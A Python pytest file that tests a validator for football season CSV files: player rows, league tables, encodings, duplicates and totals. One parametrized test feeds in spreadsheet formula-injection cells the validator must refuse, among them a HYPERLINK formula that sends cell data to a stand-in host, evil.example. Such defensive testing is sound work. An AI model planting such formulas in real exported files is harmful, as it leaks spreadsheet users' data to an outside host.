"""The reader and validator of season files, on good files, bad rows and the files of old."""

from pathlib import Path

import pytest

from events.values import LARGEST_NUMBER
from ingest.model import ClubFile, Rejected, StoredFile, TableFile
from ingest.reading import read_sheet
from ingest.validation import check

REFERENCE = Path(__file__).resolve().parents[4] / "shared" / "reference-season-2018-19"
DEMO = Path(__file__).resolve().parents[3] / "data" / "seasons" / "2018-19"
TABLE_HEADER = "Club;Played;Won;Drawn;Lost;GF;GA;GD;Points"
LIVERPOOL_ROW = "Liverpool,Mohamed Salah,Egypt,Forward,38,22,8,1079,5,21,25,135"


def parse(text: str | bytes) -> ClubFile | TableFile:
    content = text.encode() if isinstance(text, str) else text
    return check(read_sheet(StoredFile.in_memory(content)))


def reasons(text: str) -> dict[int, str]:
    with pytest.raises(Rejected) as rejected:
        parse(text)
    return {error.line: error.reason for error in rejected.value.errors}


@pytest.mark.skipif(not REFERENCE.is_dir(), reason="the reference season is not checked out")
@pytest.mark.parametrize("name", ["Chelsea", "Liverpool", "Manchester_City", "Tottenham"])
def test_the_original_club_files_are_read_as_they_are(name: str) -> None:
    club_file = parse((REFERENCE / f"{name}.csv").read_bytes())
    assert isinstance(club_file, ClubFile)
    assert club_file.rows == 10
    assert {player.club for player in club_file.players} == {club_file.club}


@pytest.mark.skipif(not REFERENCE.is_dir(), reason="the reference season is not checked out")
def test_the_original_table_is_read_without_capitals() -> None:
    table = parse((REFERENCE / "Teams.csv").read_bytes())
    assert isinstance(table, TableFile)
    assert [row.club for row in table.standings][:2] == ["Manchester City", "Liverpool"]
    assert all(row.capital is None for row in table.standings)
    assert table.standings[0].goal_difference == 72


def test_every_file_of_the_demo_season_is_valid() -> None:
    files = [parse(path.read_bytes()) for path in sorted(DEMO.glob("*.csv"))]
    tables = [file for file in files if isinstance(file, TableFile)]
    assert len(tables) == 1 and len(tables[0].standings) == 20
    assert all(row.capital for row in tables[0].standings)
    assert sum(isinstance(file, ClubFile) for file in files) >= 4


def test_a_header_names_the_columns_in_any_order_and_any_case() -> None:
    text = (
        "PRICE,player,Position,Team,nationality,goals,Appearances,assists,passes,"
        "interceptions,tackles,fouls\n12,Mohamed Salah,forward,Liverpool,Egypt,22,38,8,1,2,3,4\n"
    )
    (player,) = parse(text).players  # type: ignore[union-attr]
    assert (player.name, player.position, player.price, player.goals) == (
        "Mohamed Salah", "Forward", 12, 22,
    )  # fmt: skip


def test_a_bom_crlf_accents_and_apostrophes_are_read() -> None:
    text = "\ufeffChelsea,N'Golo Kanté,France,Midfielder,36,4,4,1984,49,76,28,90\r\n"
    text += "Chelsea,Antonio Rüdiger,Germany,Defender,33,1,0,2540,33,35,27,40\r\n"
    club_file = parse(text)
    assert isinstance(club_file, ClubFile)
    assert club_file.club == "Chelsea"
    assert [p.name for p in club_file.players] == ["N'Golo Kanté", "Antonio Rüdiger"]


def test_a_table_with_a_capital_column_keeps_it_and_a_blank_capital_is_none() -> None:
    text = (
        f"{TABLE_HEADER};Capital\nLiverpool;38;30;7;1;89;22;67;97;450\nChelsea;1;0;0;1;0;2;-2;0;\n"
    )
    table = parse(text)
    assert [row.capital for row in table.standings] == [450, None]  # type: ignore[union-attr]


def test_a_negative_count_and_a_word_for_a_number_are_refused_with_their_lines() -> None:
    rows = "Liverpool,A,B,Defender,-1,0,0,0,0,0,0,1\nLiverpool,C,D,Defender,1,x,0,0,0,0,0,1\n"
    text = f"{LIVERPOOL_ROW}\n{rows}"
    assert reasons(text) == {
        2: "appearances must be a whole number >= 0, got '-1'",
        3: "goals must be a whole number >= 0, got 'x'",
    }


def test_an_unknown_position_is_refused() -> None:
    assert "position must be one of" in reasons("Liverpool,A,B,Striker,1,0,0,0,0,0,0,1\n")[1]


def test_a_player_twice_in_a_file_is_refused_even_with_other_accents_or_case() -> None:
    text = f"{LIVERPOOL_ROW}\nLiverpool,MOHAMED SALÀH,Egypt,Forward,1,1,1,1,1,1,1,1\n"
    assert reasons(text) == {2: "'MOHAMED SALÀH' is already on line 1"}


def test_a_club_file_naming_two_clubs_is_refused() -> None:
    text = f"{LIVERPOOL_ROW}\nChelsea,Eden Hazard,Belgium,Forward,37,16,15,1590,12,20,16,130\n"
    assert "one club a file" in reasons(text)[2]


def test_a_row_with_too_few_columns_is_refused() -> None:
    assert reasons(f"{LIVERPOOL_ROW}\nLiverpool,Joe Gomez\n") == {2: "expected 12 columns, found 2"}


def test_a_missing_column_rejects_the_file_at_its_header() -> None:
    assert reasons("Club;Played;Won\nLiverpool;1;1\n")[1].startswith("missing column(s): drawn")


@pytest.mark.parametrize(
    ("row", "reason"),
    [
        ("A;38;30;7;2;89;22;67;97", "played is 38 but should be 39"),
        ("A;38;30;7;1;89;22;60;97", "goal_difference is 60 but should be 67"),
        ("A;38;30;7;1;89;22;67;98", "points is 98 but should be 97"),
    ],
)
def test_a_table_row_that_does_not_add_up_is_refused(row: str, reason: str) -> None:
    assert reasons(f"{TABLE_HEADER}\r\n{row}\r\n") == {2: reason}


def test_a_club_twice_in_the_table_is_refused() -> None:
    text = f"{TABLE_HEADER}\nA;1;1;0;0;1;0;1;3\nA;1;1;0;0;1;0;1;3\n"
    assert reasons(text) == {3: "'A' is already on line 2"}


def test_a_file_that_is_not_utf8_is_refused_at_the_line_of_the_bad_byte() -> None:
    with pytest.raises(Rejected) as rejected:
        parse(f"{LIVERPOOL_ROW}\n".encode() + "Liverpool,Jörg".encode("latin-1"))
    assert rejected.value.errors[0].line == 2


def test_an_empty_file_is_refused() -> None:
    assert reasons("\r\n\r\n") == {1: "the file has no rows"}


@pytest.mark.parametrize(
    ("cell", "first"),
    [
        ('"=HYPERLINK(""http://evil.example/?""&A1,""Salah"")"', "="),
        ("+44 Salah", "+"),
        ("-Salah", "-"),
        ("@SUM(A1)", "@"),
        ("\tSalah", "\\t"),
        ('"\rSalah"', "\\r"),
        ("  =1+1", "="),
    ],
)
def test_a_text_cell_a_spreadsheet_would_run_as_a_formula_is_refused(cell: str, first: str) -> None:
    for column in (0, 1, 2):  # club, name, nationality
        cells = LIVERPOOL_ROW.split(",")
        cells[column] = cell
        (reason,) = reasons(",".join(cells) + "\n").values()
        assert f"must not start with '{first}', which makes it a spreadsheet formula" in reason


def test_a_dash_or_an_at_inside_a_name_is_no_formula() -> None:
    text = "Liverpool,Alex Oxlade-Chamberlain,England,Midfielder,2,0,0,20,1,2,0,35\n"
    assert parse(text).players[0].name == "Alex Oxlade-Chamberlain"  # type: ignore[union-attr]


def test_a_negative_goal_difference_is_a_number_and_a_formula_in_it_is_not() -> None:
    table = f"{TABLE_HEADER}\nA;1;0;0;1;0;2;-2;0\nB;1;0;0;1;0;2;\u22122;0\n"
    assert [row.goal_difference for row in parse(table).standings] == [-2, -2]  # type: ignore[union-attr]
    refused = reasons(f"{TABLE_HEADER}\nA;1;0;0;1;0;2;-1-1;0\nB;1;0;0;1;0;2;=-2;0\n")
    assert refused == {
        2: "goal_difference must be a whole number, got '-1-1'",
        3: "goal_difference must be a whole number, got '=-2'",
    }


def test_a_number_past_the_contracts_largest_is_refused_however_long() -> None:
    largest = str(LARGEST_NUMBER)
    assert parse(LIVERPOOL_ROW.replace(",135", f",{largest}")).players[0].price == int(largest)  # type: ignore[union-attr]
    for too_large in (str(LARGEST_NUMBER + 1), "9" * 5_000):
        refused = reasons(LIVERPOOL_ROW.replace(",135", f",{too_large}") + "\n")
        assert refused[1].startswith("price") and largest in refused[1]


def test_a_club_file_with_a_blank_capital_column_reads_as_one_without() -> None:
    header = "Club,Player,Nationality,Position,Appearances,Goals,Assists,Passes,Interceptions,"
    text = f"{header}Tackles,Fouls,Price,Capital\n{LIVERPOOL_ROW},\n"
    assert parse(text).players[0].price == 135  # type: ignore[union-attr]
